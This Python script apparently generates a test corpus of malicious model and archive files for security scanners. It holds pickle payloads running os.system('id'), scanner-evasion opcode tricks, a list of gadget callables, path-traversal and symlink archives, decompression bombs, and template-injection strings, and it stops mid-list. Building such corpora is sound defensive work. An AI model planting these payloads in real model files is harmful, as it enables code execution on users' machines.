"""Writes dangerous files, none of which is ever loaded here: dangerous.py OUTPUT_FOLDER. Only Python's own library is used."""
import base64, bz2, gzip, io, json, lzma, pathlib, pickle, struct, sys, tarfile, zipfile, zlib

out = pathlib.Path(sys.argv[1])
out.mkdir(parents=True, exist_ok=True)


def put(name, data):
    (out / name).write_bytes(data)


def sbu(text):
    data = text.encode()
    return b'\x8c' + bytes([len(data)]) + data


def glob(module, name):
    return f'c{module}\n{name}\n'.encode()


def stack_glob(module, name):
    return sbu(module) + sbu(name) + b'\x93'


def call(callee, *arguments, protocol=4):
    """A pickle that calls; arguments are opcodes."""
    return b'\x80' + bytes([protocol]) + callee + b'(' + b''.join(arguments) + b'tR.'


SYSTEM = call(glob('os', 'system'), sbu('id'))

# The names that public scanners have missed or had to add; each runs code, reads, writes or connects when it is called.
GADGETS = '''os system|posix system|nt system|subprocess Popen|subprocess check_output|subprocess call|subprocess run|subprocess getoutput|pty spawn|commands getoutput
builtins eval|builtins exec|builtins compile|builtins open|builtins getattr|builtins setattr|builtins __import__|builtins breakpoint|builtins globals|builtins vars|builtins input|builtins delattr|builtins help|builtins apply|__builtin__ eval|__builtin__ execfile|__builtin__ getattr|__builtin__ map|builtins map|builtins filter|builtins type
importlib import_module|importlib.util spec_from_file_location|runpy run_path|runpy run_module|runpy _run_code|pkgutil resolve_name|pydoc locate|pydoc pipepager|pydoc render_doc|imp load_source|zipimport zipimporter|code interact|code InteractiveInterpreter|codeop compile_command
pickle loads|pickle load|_pickle loads|cPickle loads|cloudpickle load|dill loads|dill load|dill._dill _load_type|dill._dill _create_code|marshal loads|marshal load|shelve open|joblib load|torch load|torch.serialization load|torch.hub load|torch.jit load|numpy load|pandas read_pickle|jsonpickle decode|yaml load|yaml unsafe_load
socket socket|socket create_connection|urllib.request urlopen|urllib.request urlretrieve|requests get|requests.api get|http.client HTTPSConnection|httpx get|aiohttp ClientSession|ftplib FTP|smtplib SMTP|webbrowser open|ssl get_server_certificate|xmlrpc.client ServerProxy|telnetlib Telnet|asyncio open_connection
asyncio.unix_events _UnixSubprocessTransport._start|asyncio.subprocess create_subprocess_shell|multiprocessing.util spawnv_passfds|multiprocessing Process|_posixsubprocess fork_exec|ctypes CDLL|ctypes.util find_library|_ctypes dlopen|cffi FFI|numpy.ctypeslib load_library
timeit timeit|timeit main|cProfile run|cProfile runctx|profile run|profile Profile.run|profile Profile.runctx|trace Trace.run|trace Trace.runctx|bdb Bdb.run|pdb run|pdb Pdb|doctest debug_script|doctest run_docstring_examples|test.support.script_helper assert_python_ok|unittest.mock _importer|_pyrepl.pager pipe_pager|sys settrace|threading Thread|concurrent.futures.thread ThreadPoolExecutor|sched scheduler|atexit register|signal signal
pip main|pip._internal main|ensurepip _run_pip|venv create|distutils.file_util write_file|distutils.spawn spawn|setuptools setup|distutils.core run_setup|lib2to3.pgen2.grammar Grammar.loads|lib2to3.pgen2.pgen ParserGenerator.make_label|idlelib.autocomplete AutoComplete.get_entity|idlelib.autocomplete AutoComplete.fetch_completions|idlelib.calltip Calltip.fetch_tip|idlelib.calltip get_entity|idlelib.debugobj ObjectTreeItem.SetText|idlelib.pyshell ModifiedInterpreter.runcode|idlelib.pyshell ModifiedInterpreter.runcommand|idlelib.run Executive.runcode
operator attrgetter|operator itemgetter|operator methodcaller|_operator attrgetter|_operator methodcaller|functools reduce|functools partialmethod|functools cached_property|itertools starmap|types FunctionType|types CodeType|types MethodType|types DynamicClassAttribute|inspect getattr_static|weakref finalize|contextlib ExitStack|copyreg add_extension|copyreg __newobj__|copyreg pickle|string Formatter.get_field|string Formatter|logging.config _resolve|logging.config dictConfig|logging FileHandler|dataclasses make_dataclass|dataclasses _create_fn|typing _eval_type|typing ForwardRef
shutil rmtree|shutil copyfile|shutil move|tempfile mktemp|tempfile NamedTemporaryFile|io open|io FileIO|_io open|codecs open|os remove|os unlink|os popen|os execv|os spawnlp|os environ.get|os putenv|os rename|pathlib Path.write_text|pathlib PosixPath.unlink|fileinput input|linecache getlines|mmap mmap|zipfile ZipFile|tarfile open|sqlite3 connect|dbm open|configparser ConfigParser
numpy.f2py.crackfortran getlincoef|numpy.f2py.crackfortran param_eval|numpy.f2py.crackfortran _eval_length|numpy.f2py.crackfortran myeval|numpy.testing._private.utils runstring|numpy.testing._private.utils exec_command|numpy.testing runstring|numpy.distutils.exec_command exec_command|numpy.distutils.misc_util exec_mod_from_location|numpy fromfile|numpy memmap|numpy savetxt|numpy loadtxt|numpy.core._internal __reduce_cython__|numpy vectorize|scipy.io loadmat|pandas.io.common urlopen|pandas eval|pandas.core.computation.eval eval
torch._dynamo.guards GuardBuilder.get|torch._inductor.codecache compile_file|torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression|torch.jit.unsupported_tensor_ops execWrapper|torch.utils._config_module ConfigModule.load_config|torch.utils._config_module load_config|torch.utils.bottleneck.__main__ run_cprofile|torch.utils.bottleneck.__main__ run_autograd_prof|torch.utils.collect_env run|torch.utils.data.datapipes.utils.decoder basichandlers|torch.utils.cpp_extension load_inline|torch.utils.cpp_extension load|torch.distributed.run main|torch.multiprocessing spawn|torch.hub load_state_dict_from_url|torch.hub download_url_to_file|torch.package PackageImporter|torch.classes load_library|torch.ops load_library|torch from_file|torch compile|torch._C _jit_compile|torch.storage UntypedStorage.from_file|torch.fx.graph_module _forward_from_src|torch.fx.graph_module reduce_graph_module|torch.fx._symbolic_trace symbolic_trace|torch.nn.modules.module Module.register_forward_hook|torch.cuda._memory_viz segment_plot|torch._sources parse_def
keras.models load_model|tensorflow io.read_file|tensorflow.python.framework.load_library load_op_library|transformers pipeline|transformers AutoModel.from_pretrained|transformers.dynamic_module_utils get_class_from_dynamic_module|huggingface_hub hf_hub_download|datasets load_dataset|diffusers DiffusionPipeline.from_pretrained|jinja2 Template|mako.template Template|sympy sympify|numexpr evaluate|IPython.core.magics.execution exec|IPython get_ipython|django.core.management call_command|flask Flask.run|boto3 client|fabric Connection|paramiko SSHClient|plumbum local|sh Command|psutil Popen|pexpect spawn|pexpect run|sklearn.datasets fetch_openml|sklearn.utils._testing run_python_script|joblib.numpy_pickle load|joblib.externals.loky.backend.spawn prepare|cloudpickle.cloudpickle _make_function|cloudpickle.cloudpickle _builtin_type|dill._dill _import_module|dill.source getsource|nltk.data load|spacy load|gym.make make|ray init|dask.base compute|site main|sysconfig parse_config_h|platform popen|readline read_init_file|cgitb enable|antigravity geohash|__main__ payload|evil run|mymodel Net|sqlalchemy create_engine|tkinter Tk|turtle done|curses initscr|getpass getpass|rlcompleter Completer|smtpd PureProxy|nntplib NNTP|pyexpat ParserCreate|bsddb hashopen|gc get_objects|faulthandler enable|resource setrlimit|fcntl ioctl|pwd getpwall|crypt crypt|winreg OpenKey|msvcrt getch|_winapi CreateProcess|_xxsubinterpreters run_string|_xxinterpchannels send|_testcapi run_in_subinterp|_aix_support _read_cmd_output|_osx_support _read_output|nturl2path url2pathname|uuid _get_command_stdout|gettext translation|wsgiref.simple_server make_server|socketserver TCPServer|selectors DefaultSelector|compileall compile_dir|py_compile compile|pyclbr readmodule|modulefinder ModuleFinder|tokenize open|tabnanny check|pstats Stats|tracemalloc start|zipapp create_archive|lzma open|bz2 open|gzip open|encodings search_function|codecs lookup|codecs register|copy _reconstruct'''


def gadgets():
    names = [tuple(item.split(' ')) for line in GADGETS.split('\n') for item in line.split('|')]
    for index, (module, name) in enumerate(names):
        label = f'{index:03}-{module}.{name}'.replace('/', '_')
        put(f'global-{label}.pkl', call(glob(module, name), sbu('id'), protocol=2))
        put(f'stack-{label}.pkl', call(stack_glob(module, name), sbu('id')))
    return names


def opcodes():
    tricks = {
        'inst': b'(S\'id\'\nios\nsystem\n.',
        'inst-no-arguments': b'(ios\ngetcwd\n.',
        'obj': b'(cos\nsystem\nS\'id\'\no.',
        'newobj': b'\x80\x02csubprocess\nPopen\n(U\x02idt\x81.',
        'newobj-ex': b'\x80\x04' + stack_glob('subprocess', 'Popen') + b'(' + sbu('id') + b't}\x92.',
        'memo-strings': b'\x80\x04' + sbu('os') + b'\x940' + sbu('system') + b'\x940h\x00h\x01\x93' + b'(' + sbu('id') + b'tR.',
        'memo-put-get': b'Vos\np0\n0Vsystem\np1\n0g0\ng1\n\x93(Vid\ntR.',
        'memo-callable': b'\x80\x02cos\nsystem\nq\x000](h\x00(U\x02idtRe.',
        'memo-far': b'\x80\x02cos\nsystem\nr\x10\x27\x00\x000j\x10\x27\x00\x00(U\x02idtR.',
        'dup': b'\x80\x04' + sbu('os') + sbu('system') + b'\x9320' + b'(' + sbu('id') + b'tR.',
        'pop-away': b'\x80\x04' + stack_glob('os', 'system') + b'(' + sbu('id') + b'tR0N.',
        'pop-mark': b'\x80\x02(' + glob('os', 'system') + b'(U\x02idtR1N.',
        'build-state': b'\x80\x02ccollections\nOrderedDict\n)R}(U\x0c__setstate__cos\nsystem\nubU\x02idb.',
        'build-class': b'\x80\x02ccollections\nOrderedDict\n}(U\x06appendcposix\nsystem\nub.',
        'build-on-allowed-class': b'\x80\x02ctorch.nn.modules.linear\nLinear\n}U\x07forwardcbuiltins\nset\nsb.',
        'setstate-allowed': b'\x80\x02ccollections\nOrderedDict\n)R}U\x0c__setstate__ctorch.storage\n_load_from_bytes\nsbU\x02idb.',
        'no-reduce': b'\x80\x02cos\nsystem\n.',
        'in-dict': b'\x80\x02}U\x01acos\nsystem\ns.',
        'escapes-v': b'\x80\x02V\\u006f\\u0073\nV\\u0073ystem\n\x93(U\x02idtR.',
        'escapes-s': b"S'\\x6f\\x73'\nS'syst\\145m'\n\x93(S'id'\ntR.",
        'long-strings': b'\x80\x04X\x02\x00\x00\x00os\x8d\x06' + b'\0' * 7 + b'system\x93(' + sbu('id') + b'tR.',
        'binstring': b'T\x02\x00\x00\x00osU\x06system\x93(U\x02idtR.',
        'dotted': b'\x80\x04' + sbu('torch') + sbu('serialization.os.system') + b'\x93(' + sbu('id') + b'tR.',
        'dotted-allowed': b'\x80\x04' + sbu('collections') + sbu('OrderedDict.fromkeys') + b'\x93.',
        'dotted-module-walk': b'\x80\x04' + sbu('torch._utils') + sbu('torch.os.system') + b'\x93(' + sbu('id') + b'tR.',
        'computed-name': b'\x80\x04cbuiltins\nstr\n(' + sbu('os') + b'tR' + sbu('system') + b'\x93(' + sbu('id') + b'tR.',
        'name-from-encode': b'\x80\x04c_codecs\nencode\n(' + sbu('os') + b'tR' + sbu('system') + b'\x93.',
        'ext1': b'\x80\x02\x82\x01(U\x02idtR.',
        'ext2': b'\x80\x02\x83\x01\x01(U\x02idtR.',
        'ext4': b'\x80\x02\x84\x01\x00\x00\x01(U\x02idtR.',
        'persid': b'Pos.system\n.',
        'binpersid': b'\x80\x02U\x02idQ.',
        'frames': b'\x80\x04\x95\x05\0\0\0\0\0\0\0' + sbu('os') + sbu('system') + b'\x93(' + sbu('id') + b'tR.',
        'frame-lies': b'\x80\x04\x95\xff\0\0\0\0\0\0\0' + stack_glob('os', 'system') + b'(' + sbu('id') + b'tR.',
        'frame-zero': b'\x80\x04' + b'\x95\0\0\0\0\0\0\0\0' * 4 + stack_glob('os', 'system') + b'(' + sbu('id') + b'tR.',
        'many-protos': b'\x80\x02' * 50 + glob('os', 'system') + b'(U\x02idtR.',
        'proto-late': b'N0\x80\x04' + glob('os', 'system') + b'(U\x02idtR.',
        'truncated-after-call': SYSTEM[:-1],
        'truncated-in-call': SYSTEM[:-2],
        'error-after-call': SYSTEM[:-1] + b'\xff',
        'underflow-after-call': SYSTEM[:-1] + b'00000.',
        'broken-tail': SYSTEM[:-1] + b'X\xff\xff\xff\xff',
        'concatenated': pickle.dumps({'weights': [1.0] * 100}) + SYSTEM,
        'concatenated-far': pickle.dumps(b'x' * 300_000) + SYSTEM,
        'trailing-garbage': pickle.dumps({'a': 1}) + b'\xff\xfe garbage',
        'stack-left': b'\x80\x02NNNcos\nsystem\n(U\x02idtR.',
        'nested-bytes': pickle.dumps({'payload': SYSTEM}),
        'nested-bytes-loads': call(glob('pickle', 'loads'), b'C' + bytes([len(SYSTEM)]) + SYSTEM),
        'nested-load-from-bytes': call(glob('torch.storage', '_load_from_bytes'), b'C' + bytes([len(SYSTEM)]) + SYSTEM),
        'nested-encoded': b'\x80\x02ctorch.storage\n_load_from_bytes\n(c_codecs\nencode\n(X' + struct.pack('<I', len(SYSTEM.decode('latin1').encode())) + SYSTEM.decode('latin1').encode() + b'U\x06latin1tRtR.',
        'load-from-bytes-computed': b'\x80\x02ctorch.storage\n_load_from_bytes\n(cbuiltins\nbytes\n(](K\x80K\x02etRtR.',
        'load-from-bytes-as-factory': b'\x80\x02ccollections\ndefaultdict\n(ctorch.storage\n_load_from_bytes\ntR.',
        'generator-ctor': b'\x80\x03cnumpy.random._pickle\n__generator_ctor\n(C\x02xxctorch.storage\n_load_from_bytes\ntR.',
        'ufunc-reconstruct': call(glob('numpy.core', '_ufunc_reconstruct'), sbu('os'), sbu('system')),
        'rebuild-from-type': call(glob('torch._tensor', '_rebuild_from_type_v2'), glob('os', 'system'), b'N', b'(' + sbu('id') + b't', b'N'),
        'rebuild-from-type-allowed': call(glob('torch._tensor', '_rebuild_from_type_v2'), glob('torch.storage', '_load_from_bytes'), b'N', b'(C\x02xxt', b'N'),
        'partial': call(glob('functools', 'partial'), glob('os', 'system'), sbu('id')),
        'partial-called': b'\x80\x02cfunctools\npartial\n(cbuiltins\nset\ntR(ltR.',
        'reduce-computed': b'\x80\x02cbuiltins\nstr\n(U\x01atR(U\x01btR.',
        'reconstructor-os': b'\x80\x02ccopyreg\n_reconstructor\n(csubprocess\nPopen\ncbuiltins\nobject\nNtR.',
        'codec-rot13': call(glob('_codecs', 'encode'), sbu('bf.flfgrz'), sbu('rot13')),
        'bytes-bomb': call(glob('builtins', 'bytearray'), b'\x8a\x05\x00\x00\x00\x00\x10'),
        'list-of-range': b'\x80\x02cbuiltins\nlist\n(cbuiltins\nrange\n(\x8a\x06\x00\x00\x00\x00\x00\x10tRtR.',
        'array-bomb': b'\x80\x02cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\n(\x8a\x06\x00\x00\x00\x00\x00\x10tU\x01btR.',
        'memo-bomb': b'\x80\x02Nr\xff\xff\xff\x7f.',
        'memo-bomb-text': b'Np4294967295\n.',
        'laughs': b'\x80\x02]q\x00' + b''.join(b'](' + b'h' + bytes([i]) * 1 + (b'h' + bytes([i])) * 9 + b'eq' + bytes([i + 1]) for i in range(12)) + b'.',
        'hash-bomb': b'\x80\x02)' + b'2\x86' * 30 + b'q\x000}h\x00Ns.',
        'length-lie': b'\x80\x04\x8e' + struct.pack('<Q', 2**62) + b'xx.',
        'long4-lie': b'\x80\x02\x8b\xff\xff\xff\x7f\x01.',
        'append-to-object': b'\x80\x02ctorch.nn.modules.linear\nIdentity\n)\x81N' + b'a.',
        'setitem-on-tensor': b'\x80\x02ctorch\nSize\n)RK\x00K\x01s.',
        'joblib-opcodes': b'\x80\x04cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(' + sbu('dtype') + b'cnumpy\ndtype\n(' + sbu('u1') + b'tR' + sbu('shape') + b'K\x40\x85' + sbu('order') + sbu('C') + b'ub' + (glob('os', 'system') + b'(' + sbu('id') + b'tR.').ljust(64, b' ') + b'.',
        'joblib-objects': b'\x80\x04cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(' + sbu('dtype') + b'cnumpy\ndtype\n(' + sbu('O') + b'tR' + sbu('shape') + b'K\x01\x85ub' + SYSTEM + b'.',
        'joblib-struct-objects': b'\x80\x04cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(' + sbu('dtype') + b'cnumpy\ndtype\n(' + sbu('V8') + b'tR(K\x03' + sbu('|') + b'N' + sbu('x') + b'\x85}' + sbu('x') + b'cnumpy\ndtype\n(' + sbu('O') + b'tRK\x00\x86sK\x08K\x01K\x3ftb' + sbu('shape') + b'K\x01\x85ub' + SYSTEM + b'.',
        'ndarraywrapper': b'\x80\x02cjoblib.numpy_pickle\nNDArrayWrapper\n)\x81}U\x08filenameU\x0b/etc/passwdsb.',
        'unicode-name': b'\x80\x04' + sbu('ｏs') + sbu('system') + b'\x93.',
        'carriage-return': b'cos\r\nsystem\r\n(S\'id\'\ntR.',
        'leading-text': b"I1\n0cos\nsystem\n(S'id'\ntR.",
        'protocol0-lines': b"(dp0\nS'a'\np1\ncposix\nsystem\np2\n(S'id'\np3\ntp4\nRp5\ns.",
        'protocol-6': b'\x80\x06' + SYSTEM[2:],
        'buffers': b'\x80\x05\x97.',
        'setitem-special': b'\x80\x02cargparse\nNamespace\n)\x81}U\x09__class__cbuiltins\nset\nsb.',
        'exception-reduce': b'\x80\x02cbuiltins\nException\n}U\x01acos\nsystem\nsb.',
        'empty-tuple-call': b'\x80\x02cos\nabort\n)R.',
        'lambda-cloudpickle': b'\x80\x04ccloudpickle.cloudpickle\n_builtin_type\n(' + sbu('CodeType') + b'tR.',
        'torch-magic-then-code': b'\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.' + SYSTEM,
        'torch-magic-sysinfo': b'\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}q\x00.' + SYSTEM + b'\x80\x02].',
        'old-protocol-inst-mark': b'((S\'id\'\nios\nsystem\n.',
        'list-reduce': b'(lp0\n(cos\nsystem\n(S\'id\'\ntRa.',
        'dict-opcode': b"(S'a'\ncos\nsystem\n(S'id'\ntRd.",
        'frozenset': b'\x80\x04(' + stack_glob('os', 'system') + b'(' + sbu('id') + b'tR\x91.',
        'tuple3': b'\x80\x02NN' + glob('os', 'system') + b'(U\x02idtR\x87.',
        'bytearray8': b'\x80\x05\x96\x02' + b'\0' * 7 + b'os0' + stack_glob('os', 'system') + b'(' + sbu('id') + b'tR.',
        'big-skip': b'\x80\x04B' + struct.pack('<I', 200_000) + b'\0' * 200_000 + b'0' + stack_glob('os', 'system') + b'(' + sbu('id') + b'tR.',
        'many-small': b'\x80\x04' + b'N0' * 100_000 + stack_glob('os', 'system') + b'(' + sbu('id') + b'tR.',
        'slot-state-names': b'\x80\x05cnumpy\nprod\nN(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00g0\ng1\n\x93Vid\n\x85R.',
        'slot-state-builtins': bytes.fromhex('80048c056e756d70798c0473697a659394948c056e756d70798c0c5f5f6275696c74696e735f5f93949468017d7d8c0573686170656803738662680168018c046576616c86528c1d5f5f696d706f72745f5f28226f7322292e73797374656d28226964222985522e'),
        'long-line': b'V' + b'x' * 300_000 + b'\n0cos\nsystem\n(Vid\ntR.',
    }
    for name, data in tricks.items():
        put(f'opcode-{name}.pkl', data)
    for protocol in range(6):
        class Evil:
            def __reduce__(self):
                return (eval, ('1+1',))
        put(f'reduce-p{protocol}.pkl', pickle.dumps({'w': [1, 2], 'x': Evil()}, protocol))
    return tricks


def wrap_all(payload, name):
    put(f'wrapped-{name}.pkl.gz', gzip.compress(payload))
    put(f'wrapped-{name}.joblib.z', zlib.compress(payload))
    put(f'wrapped-{name}.bz2', bz2.compress(payload))
    put(f'wrapped-{name}.xz', lzma.compress(payload))
    put(f'wrapped-{name}.lzma', lzma.compress(payload, lzma.FORMAT_ALONE))
    for extension in ('.txt', '.json', '.safetensors', '.onnx', '.h5', '.bin', '.png'):
        put(f'misnamed-{name}{extension}', payload)


def zip_of(members, method=zipfile.ZIP_STORED):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, 'w', method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return stream.getvalue()


SAFE = pickle.dumps({'a': 1}, 2)


def torch_zip(payload, **more):
    return {'archive/data.pkl': payload, 'archive/version': b'3\n', **more}


def zips():
    put('torch-evil.pt', zip_of(torch_zip(SYSTEM)))
    put('torch-evil-deflated.pt', zip_of(torch_zip(SYSTEM), zipfile.ZIP_DEFLATED))
    put('torch-evil-bzip2.pt', zip_of(torch_zip(SYSTEM), zipfile.ZIP_BZIP2))
    put('torch-extra-pickle.pt', zip_of(torch_zip(SAFE, **{'archive/extra/payload.pkl': SYSTEM})))
    put('torch-extra-renamed.pt', zip_of(torch_zip(SAFE, **{'archive/notes.txt': SYSTEM})))
    put('torch-storage-pickle.pt', zip_of(torch_zip(SAFE, **{'archive/data/0': SYSTEM})))
    put('torch-two-folders.pt', zip_of({'a/data.pkl': SAFE, 'a/version': b'3', 'b/data.pkl': SYSTEM}))
    put('torch-no-version.pt', zip_of({'archive/data.pkl': SYSTEM}))
    put('torch-root.pt', zip_of({'data.pkl': SYSTEM}))
    put('torch-constants.pt', zip_of(torch_zip(SAFE, **{'archive/constants.pkl': SYSTEM})))
    put('torch-script-save.pt', zip_of(torch_zip(SAFE, **{'archive/constants.pkl': b'\x80\x02).', 'archive/code/__torch__.py': b'def forward(self, x):\n  torch.save(x, "/tmp/x")\n'})))
    put('torch-script-from-file.pt', zip_of(torch_zip(SAFE, **{'archive/constants.pkl': b'\x80\x02).', 'archive/code/__torch__.py': b'def forward(self, x):\n  return torch.from_file("/etc/passwd")\n'})))
    put('torch-script-python.pt', zip_of(torch_zip(SAFE, **{'archive/constants.pkl': b'\x80\x02).', 'archive/code/__torch__.py': b'import os\nos.system("id")\n'})))
    put('torch-nested-zip.pt', zip_of(torch_zip(SAFE, **{'archive/more.zip': zip_of({'x.pkl': SYSTEM})})))
    put('torch-slip.pt', zip_of(torch_zip(SAFE, **{'archive/../../etc/cron.d/x': b'x'})))
    put('torch-absolute.pt', zip_of(torch_zip(SAFE, **{'/etc/passwd': b'x'})))
    put('zip-pickle.zip', zip_of({'model.pkl': SYSTEM}))
    put('zip-backslash.zip', zip_of({'..\\..\\x.txt': b'x'}))
    put('zip-drive.zip', zip_of({'C:\\x.txt': b'x'}))
    put('zip-deep.zip', nested(8))
    put('npz-evil.npz', zip_of({'a.npy': npy_objects()}))
    put('npy-evil.npy', npy_objects())
    put('npy-structured.npy', npy_objects("[('a', '<f4'), ('b', '|O')]"))
    put('npy-nested.npy', npy_objects("[('a', [('b', '|O')])]"))
    put('npy-code-header.npy', npy_header("{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,)}") + b'\0' * 8)
    put('npy-negative.npy', npy_header("{'descr': '<f8', 'fortran_order': False, 'shape': (-1,)}") + b'\0' * 8)
    put('npy-short.npy', npy_header("{'descr': '<f8', 'fortran_order': False, 'shape': (100000000000,)}") + b'\0' * 8)
    put('npy-trailing.npy', npy_header("{'descr': '<f8', 'fortran_order': False, 'shape': (1,)}") + b'\0' * 8 + SYSTEM)
    put('npz-mixed.npz', zip_of({'a.npy': npy_header("{'descr': '<f8', 'fortran_order': False, 'shape': (1,)}") + b'\0' * 8, 'b.pkl': SYSTEM}))
    put('npz-misnamed-member.npz', zip_of({'a.npy': SYSTEM}))
    bomb = zip_of({'archive/data.pkl': b'\0' * 300_000_000, 'archive/version': b'3'}, zipfile.ZIP_DEFLATED)
    put('zip-bomb.pt', bomb)
    put('gzip-bomb.gz', gzip.compress(b'\0' * 300_000_000))
    plain = bytearray(zip_of(torch_zip(SYSTEM)))
    for name, change in {'local-name': lambda z: z.replace(b'archive/data.pkl', b'archive/dota.pkl', 1), 'prefix': lambda z: b'#!/bin/sh\n' + z, 'suffix': lambda z: z + b'trailing', 'crc': flip_crc,
                         'encrypted-flag': lambda z: set_flags(z, 1), 'flag-bits': lambda z: set_flags(z, 0x4000), 'local-flag': lambda z: z[:6] + b'\x01\x00' + z[8:], 'two-ends': lambda z: z + zip_of(torch_zip(SAFE))}.items():
        put(f'zip-{name}.pt', bytes(change(bytes(plain))))
    duplicate = io.BytesIO()
    import warnings
    warnings.simplefilter('ignore')
    with zipfile.ZipFile(duplicate, 'w') as archive:
        archive.writestr('archive/data.pkl', SAFE)
        archive.writestr('archive/data.pkl', SYSTEM)
        archive.writestr('archive/version', '3')
    put('zip-duplicate.pt', duplicate.getvalue())
    put('zip-duplicate-case.pt', zip_of({'archive/data.pkl': SAFE, 'archive/DATA.pkl': SYSTEM}))
    link = zipfile.ZipInfo('archive/link')
    link.create_system, link.external_attr = 3, 0o120777 << 16
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, 'w') as archive:
        archive.writestr('archive/data.pkl', SAFE)
        archive.writestr(link, '/etc/passwd')
    put('zip-symlink.pt', stream.getvalue())
    hidden = zip_of(torch_zip(SAFE))
    local = zip_of({'archive/evil.pkl': SYSTEM})
    local = local[: local.index(b'PK\x01\x02')]
    directory = hidden.index(b'PK\x01\x02')
    end = bytearray(hidden[directory:])
    struct.pack_into('<I', end, len(end) - 6, directory + len(local))
    put('zip-hidden-entry.pt', hidden[:directory] + local + bytes(end))
    put('seven.7z', b'7z\xbc\xaf\x27\x1c\x00\x04' + b'\0' * 64)
    put('archive.rar', b'Rar!\x1a\x07\x01\x00' + b'\0' * 64)


def flip_crc(z):
    z = bytearray(z)
    for signature, at in ((b'PK\x03\x04', 14), (b'PK\x01\x02', 16)):
        place = z.index(signature)
        z[place + at] ^= 0xff
    return bytes(z)


def set_flags(z, flags):
    z = bytearray(z)
    for signature, at in ((b'PK\x03\x04', 6), (b'PK\x01\x02', 8)):
        struct.pack_into('<H', z, z.index(signature) + at, flags)
    return bytes(z)


def nested(depth):
    data = SYSTEM
    for index in range(depth):
        data = zip_of({f'{index}.zip' if index else 'x.pkl': data})
    return data


def npy_header(text):
    text = text.ljust(117) + '\n'
    return b'\x93NUMPY\x01\x00' + struct.pack('<H', len(text)) + text.encode()


def npy_objects(descr="'|O'"):
    return npy_header("{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % descr) + SYSTEM


def tars():
    def tar_of(members):
        stream = io.BytesIO()
        with tarfile.open(fileobj=stream, mode='w') as archive:
            for name, value in members.items():
                info = tarfile.TarInfo(name)
                if isinstance(value, bytes):
                    info.size = len(value)
                    archive.addfile(info, io.BytesIO(value))
                else:
                    info.type, info.linkname = value
                    archive.addfile(info)
        return stream.getvalue()

    put('tar-torch.pt', tar_of({'pickle': SYSTEM, 'storages': pickle.dumps(0, 2), 'tensors': pickle.dumps(0, 2)}))
    put('tar-storages.pt', tar_of({'pickle': pickle.dumps({}, 2), 'storages': SYSTEM, 'tensors': pickle.dumps(0, 2)}))
    put('tar-plain.tar', tar_of({'model/model.pkl': SYSTEM}))
    put('tar-slip.tar', tar_of({'../../etc/x': b'x'}))
    put('tar-absolute.tar', tar_of({'/etc/x': b'x'}))
    put('tar-symlink.tar', tar_of({'link': (tarfile.SYMTYPE, '/etc/passwd')}))
    put('tar-hardlink.tar', tar_of({'link': (tarfile.LNKTYPE, '../../x')}))
    put('tar-device.tar', tar_of({'device': (tarfile.CHRTYPE, '')}))
    put('tar-long-slip.tar', tar_of({'x/' * 80 + '../' * 90 + 'etc/x': b'x'}))
    put('tar-compressed.tgz', gzip.compress(tar_of({'model.pkl': SYSTEM})))
    put('tar-trailing.tar', tar_of({'a.txt': b'hello'}) + SYSTEM)


def safetensors():
    def file(header, data=b'', length=None):
        text = header if isinstance(header, bytes) else json.dumps(header).encode()
        return struct.pack('<Q', len(text) if length is None else length) + text + data
    one = {'dtype': 'U8', 'shape': [4], 'data_offsets': [0, 4]}
    put('st-long-header.safetensors', file({'a': one}, b'\0' * 4, 2**40))
    put('st-overlap.safetensors', file({'a': one, 'b': {**one, 'data_offsets': [2, 6]}}, b'\0' * 6))
    put('st-hole.safetensors', file({'a': one, 'b': {**one, 'data_offsets': [6, 10]}}, b'\0' * 10))
    put('st-duplicate.safetensors', file(b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}', b'\0' * 4))
    put('st-trailing-pickle.safetensors', file({'a': one}, b'\0' * 4 + SYSTEM))
    put('st-trailing-zip.safetensors', file({'a': one}, b'\0' * 4 + zip_of({'archive/data.pkl': SYSTEM})))
    put('st-overflow.safetensors', file({'a': {'dtype': 'U8', 'shape': [2**33, 2**33, 2**33], 'data_offsets': [0, 4]}}, b'\0' * 4))
    put('st-deep.safetensors', file(b'{"a":' + b'[' * 100_000 + b']' * 100_000 + b'}'))
    inner = zip_of({'archive/data.pkl': SYSTEM})
    put('st-zip-in-tensor.safetensors', file({'a': {'dtype': 'U8', 'shape': [len(inner)], 'data_offsets': [0, len(inner)]}}, inner))
    # The header's length is LONG1 of 32 bytes; behind them, inside of a JSON text, stand opcodes without control characters.
    def texts(*values):
        return b''.join(b'U' + bytes([len(value)]) + value for value in values)
    opcodes = texts(b'torch.fx.experimental.symbolic_shapes', b'ShapeEnv.evaluate_guards_expression') + b'q\xc2\x93(' + texts(b"__import__('os').system('id')".ljust(40)) + b'tR.'
    header = (b'{"__metadata__":{"x":"'.ljust(26, b'_') + opcodes + b'"}}').ljust(0x208a)
    put('st-pickle-prefix.safetensors', struct.pack('<Q', len(header)) + header)


def gguf():
    def text(value):
        value = value.encode()
        return struct.pack('<Q', len(value)) + value

    def file(entries, tensors=b'', counts=(0, None)):
        return b'GGUF' + struct.pack('<IQQ', 3, counts[0], len(entries) if counts[1] is None else counts[1]) + b''.join(entries) + tensors

    def template(value):
        return file([text('tokenizer.chat_template') + struct.pack('<I', 8) + text(value)])
    templates = ["{{ ''.__class__.__base__.__subclasses__()[100].__init__.__globals__['sys'].modules['os'].popen('id').read() }}",
                 "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
